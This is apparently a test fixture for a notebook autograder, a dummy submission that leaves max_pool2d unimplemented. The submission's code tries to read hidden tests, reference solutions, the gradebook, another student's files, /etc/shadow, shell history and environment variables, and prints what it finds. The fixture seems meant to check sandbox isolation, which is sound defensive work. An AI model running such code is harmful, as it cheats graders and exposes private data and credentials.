# cell: max_pool2d
# loses: test_max_pool2d
"""Tries to read the hidden tests, the reference notebook, the gradebook, another student's files and secrets, printing what it finds."""

import glob
import os


def max_pool2d(image, kh, kw):
    raise NotImplementedError


root = "@COURSE_ROOT@"
targets = (
    [
        root + "/solutions/sliding_window_max/hidden_tests.py",
        root + "/solutions/sliding_window_max/sliding_window_max.ipynb",
        root + "/gradebook.db",
        root + "/submitted/reference/sliding_window_max/notes.txt",
        root + "/autograded/reference/sliding_window_max/sliding_window_max.ipynb",
        "hidden_tests.py",
        "../hidden_tests.py",
        "/proc/1/environ",
        "/proc/self/environ",
        os.path.expanduser("~/.bash_history"),
        "/etc/shadow",
    ]
    + glob.glob("/work/**/hidden_tests.py", recursive=True)[:20]
    + glob.glob("/tmp/**", recursive=True)[:50]
)
for path in targets:
    try:
        with open(path, "rb") as f:
            print(path, f.read(4000))
    except OSError as e:
        print(path, "->", type(e).__name__)
print(dict(os.environ))
